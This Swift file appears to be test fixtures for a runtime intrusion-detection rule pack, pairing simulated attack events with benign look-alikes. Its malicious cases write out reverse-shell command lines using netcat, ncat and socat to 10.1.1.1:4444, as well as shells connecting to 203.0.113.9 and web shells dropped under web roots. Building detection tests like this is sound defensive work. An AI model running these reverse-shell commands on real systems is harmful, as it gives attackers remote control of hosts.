import Events

extension PackCase {
    private static let sockets: @Sendable (inout ExecDetails) -> Void = { $0.stdio = [.socket, .socket, .socket] }

    /// Shells and servers.
    static let execution: [PackCase] = [
        PackCase("Reverse shell") {
            [
                EventKit.run("/bin/busybox", "sh", by: ["/opt/attack/network"]) { exec in
                    exec.path = "/bin/sh"
                    sockets(&exec)
                },
                EventKit.run("/usr/bin/bash", "bash", "-i", by: ["/usr/bin/python3"], change: sockets),
                EventKit("/usr/bin/bash").call(.dup, "dup2", [5, 0, 0, 2], result: 0),
            ]
        } twins: {
            [
                EventKit.run("/bin/sh", by: ["/usr/sbin/sshd"], change: sockets),
                EventKit.run("/bin/sh", by: ["/usr/bin/runc"]) { $0.stdio = [.terminal, .terminal, .terminal] },
                EventKit.run("/bin/sh", by: ["/usr/bin/socat"]) { $0.stdio = [.pipe, .pipe, .pipe] },
                // what node's child_process gives its shells
                EventKit.run("/bin/sh", "sh", "-c", "uptime", by: ["/usr/bin/node"]) { $0.stdio = [.unix, .unix, .unix] },
                EventKit("/usr/bin/bash").call(.dup, "dup2", [5, 0, 0, 1], result: 0),
                EventKit.run("/usr/bin/id", by: ["/bin/sh"], change: sockets),
                EventKit("/usr/sbin/nginx").call(.dup, "dup2", [5, 0, 0, 2], result: 0),
            ]
        },
        PackCase("Interpreter on a network connection") {
            [
                EventKit("/usr/bin/python3").call(.dup, "dup2", [3, 0, 0, 2], result: 0), EventKit("/usr/bin/perl").call(.dup, "dup2", [3, 1, 0, 2], result: 1),
                EventKit.inside("/usr/local/bin/php").call(.dup, "dup2", [3, 2, 0, 2], result: 2),
            ]
        } twins: {
            [
                EventKit("/usr/bin/python3").call(.dup, "dup2", [3, 7, 0, 2], result: 7), EventKit("/usr/sbin/php-fpm8.2").call(.dup, "dup2", [3, 0, 0, 2], result: 0),
                EventKit("/usr/bin/python3").call(.dup, "dup2", [19, 0, 0, 1], result: 0),
            ]
        },
        PackCase("Shell opens a connection") {
            [EventKit("/usr/bin/bash").connect("203.0.113.9", 4444), EventKit.inside("/bin/zsh").connect("203.0.113.9", 443)]
        } twins: {
            [EventKit("/usr/bin/bash").connect("127.0.0.1", 8080), EventKit("/usr/bin/bash").connect("10.1.1.1", 636), EventKit("/usr/bin/curl", "/usr/bin/bash").connect("203.0.113.9", 443)]
        },
        PackCase("Netcat runs a program") {
            [
                EventKit.run("/bin/nc", "nc", "10.1.1.1", "4444", "-e", "/bin/sh"), EventKit.run("/usr/bin/ncat", "ncat", "--exec", "/bin/bash", "10.1.1.1", "4444"),
                EventKit.run("/usr/bin/socat", "socat", "TCP:10.1.1.1:4444", "EXEC:/bin/sh"), EventKit.run("/bin/nc", "nc", "-e", "sh", "-lp", "4444", inside: true),
            ]
        } twins: {
            [
                EventKit.run("/bin/nc", "nc", "-z", "-w", "1", "127.0.0.1", "9"), EventKit.run("/usr/bin/socat", "socat", "-", "UNIX-CONNECT:/run/x.sock"),
                EventKit.run("/bin/nc", "nc", "-l", "8080", inside: true),
            ]
        },
        PackCase("Web server starts a shell") {
            [
                EventKit.run("/bin/sh", "sh", "-c", "id", by: ["/usr/sbin/apache2"]), EventKit.run("/usr/bin/whoami", by: ["/usr/sbin/php-fpm8.2"]),
                EventKit.run("/bin/sh", "sh", "-c", "curl x", by: ["/usr/sbin/nginx"], inside: true),
            ]
        } twins: {
            [
                EventKit.run("/bin/sh", "sh", "-c", "/usr/sbin/sendmail -t -i", by: ["/usr/sbin/php-fpm8.2"]), EventKit.run("/usr/sbin/nginx", "nginx", "-s", "reload", by: ["/usr/sbin/nginx"]),
                EventKit.run("/bin/sh", "sh", "-c", "/usr/bin/rotatelogs /var/log/x", by: ["/usr/sbin/apache2"]), EventKit.run("/bin/sh", "sh", "-c", "id", by: ["/usr/bin/bash"]),
            ]
        },
        PackCase("Script dropped by web server") {
            [EventKit("/usr/sbin/php-fpm8.2").write("/var/www/html/x.php"), EventKit.inside("/usr/sbin/nginx").write("/srv/www/upload/a.jsp")]
        } twins: {
            [
                EventKit("/usr/sbin/php-fpm8.2").write("/var/www/app/storage/framework/views/1.php"), EventKit("/usr/bin/git").write("/var/www/html/x.php"),
                EventKit("/usr/sbin/nginx").write("/var/lib/nginx/body/1"), EventKit("/usr/sbin/php-fpm8.2").read("/var/www/html/x.php"),
            ]
        },
        PackCase("Database starts a shell") {
            [EventKit.run("/bin/sh", "sh", "-c", "id", by: ["/usr/lib/postgresql/15/bin/postgres"]), EventKit.run("/bin/sh", "sh", "-c", "wget x", by: ["/usr/bin/redis-server"], inside: true)]
        } twins: {
            [
                EventKit.run("/bin/sh", "sh", "-c", "cp pg_wal/00001 /backup/00001", by: ["/usr/lib/postgresql/15/bin/postgres"]),
                EventKit.run("/usr/bin/pg_basebackup", by: ["/usr/lib/postgresql/15/bin/postgres"]), EventKit.run("/bin/sh", "sh", "-c", "locale -a", by: ["/usr/lib/postgresql/15/bin/postgres"]), EventKit.run("/usr/lib/postgresql/15/bin/postgres", by: ["/bin/sh"]),
            ]
        },
        PackCase("Terminal shell in a container") {
            [EventKit.run("/bin/sh", by: ["/usr/bin/runc"], inside: true) { $0.ttyNumber = 34816 }, EventKit.run("/bin/bash", by: ["/usr/bin/containerd-shim"], inside: true) { $0.ttyNumber = 34816 }]
        } twins: {
            [
                EventKit.run("/bin/sh", by: ["/usr/bin/runc"], inside: true), EventKit.run("/bin/bash", by: ["/usr/bin/login"]) { $0.ttyNumber = 34816 },
                EventKit.run("/bin/ls", by: ["/usr/bin/runc"], inside: true) { $0.ttyNumber = 34816 },
            ]
        },
    ]
}
